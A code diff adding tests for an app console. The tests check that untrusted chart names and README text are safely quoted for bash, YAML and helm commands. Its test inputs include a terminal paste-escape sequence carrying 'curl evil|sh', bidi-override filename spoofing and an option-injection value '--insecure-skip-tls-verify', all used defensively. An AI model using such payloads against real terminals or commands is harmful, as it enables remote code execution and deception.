@@ -1,6 +1,7 @@
 /** What the pages of an app make of texts of strangers: READMEs, links, and lines for a shell. */
 
 import assert from "node:assert/strict";
+import { load } from "js-yaml";
 import { linksOf, maintainersOf, safeHref, signKeyOf } from "../../routes/console/app/lists.ts";
 import type { Opened, Version } from "../../routes/console/app/load.ts";
 import { fitIn } from "../../routes/console/app/readme.ts";
@@ -33,6 +34,14 @@ Deno.test("headings are told by their text, and those without one are none", () 
   assert.match(html, /<div id="readme-x"><\/div>/);
   assert.doesNotMatch(html, /<h1/);
   assert.doesNotMatch(fit("<h1>a<h1>b</h1></h1>").html, /<h1/);
+});
+
+Deno.test("what is made of a README can be balanced no worse than it is", () => {
+  // Not even if there was a heading in a heading.
+  const { html } = fitIn("<h1>x<div><h1>y</h1></div></h1>", LABELS);
+  assert.equal(html, "<h1>x<div><h2>y</h2></div></h1>");
+  const nested = fit("<h1>x<div><h1>y</h1></div></h1>\n\n<h1>z</h1>");
+  assert.equal(nested.html.trim(), "<h2>x<div><div>y</div></div></h2>\n<h2>z</h2>");
 });
 
 Deno.test("code and tables can be scrolled with keys, and boxes have a name", () => {
@@ -97,6 +106,45 @@ Deno.test("what is no plain word is quoted, for a shell and for YAML", () => {
   assert.equal(slug("仓库", 63), "chart");
 });
 
+/** Names that a terminal acts on when they are pasted, or that look like others. */
+const UNSEEN = [
+  "a\u001b[201~\u0003\n curl evil|sh\n",
+  "it's \\ \u202egnp.exe\u202c1",
+  "\u2028\u2029\u0085\u00ad7",
+  "\t\u{e0041}'",
+];
+
+Deno.test("what is not seen in a text is written out in commands and manifests", async () => {
+  for (const text of UNSEEN) {
+    for (const written of [quoted(text), yaml(text)]) {
+      assert.doesNotMatch(written, /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
+    }
+    const args = ["-c", `printf '%s' ${quoted(text)}`];
+    const { stdout } = await new Deno.Command("bash", { args }).output();
+    assert.equal(new TextDecoder().decode(stdout), text);
+    assert.deepEqual(load(`name: ${yaml(text)}\n`), { name: text });
+    const of = opened({ name: text, url: "https://a.b/\u202ec" }, { version: text });
+    const recipes = recipesOf({ ...of, app: { ...of.app, name: text } });
+    for (const recipe of Object.values(recipes)) {
+      assert.doesNotMatch(recipe.replaceAll("\n", ""), /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
+    }
+  }
+});
+
+Deno.test("a chart's name is no option to a program, whatever it begins with", async () => {
+  const name = "--insecure-skip-tls-verify", of = opened({ name: "--debug" });
+  const recipes = recipesOf({ ...of, app: { ...of.app, name } });
+  for (const command of [recipes.pull!, ...recipes.helm!.split("\n")]) {
+    const script = `helm() { printf '%s\\0' "$@"; }\n${command}`;
+    const { stdout } = await new Deno.Command("sh", { args: ["-c", script] }).output();
+    const given = new TextDecoder().decode(stdout).split("\0");
+    const options = given.slice(0, given.includes("--") ? given.indexOf("--") : given.length)
+      .filter((argument) => argument.startsWith("-"));
+    assert.ok(options.every((option) => ["--repo", "--version"].includes(option)), command);
+  }
+  assert.match(recipes.pull!, / -- '--insecure-skip-tls-verify'$/);
+});
+
 function opened(repo: Partial<Opened["repo"]>, version: Partial<Version> = {}): Opened {
   return {
     page: { base: "", url: new URL("https://charts.example/apps/a"), who: { kind: "token" } },
@@ -115,7 +163,7 @@ Deno.test("a version is installed by its repository's address, with what that as
   );
   assert.equal(
     pull,
-    "helm pull redis \\\n  --repo https://example.com/charts --version 1.10.0",
+    "helm pull \\\n  --repo https://example.com/charts --version 1.10.0 \\\n  -- redis",
   );
   assert.match(flux!, /^ {6}version: "1\.10\.0"$/m);
   assert.match(argo!, /^ {4}targetRevision: "1\.10\.0"$/m);
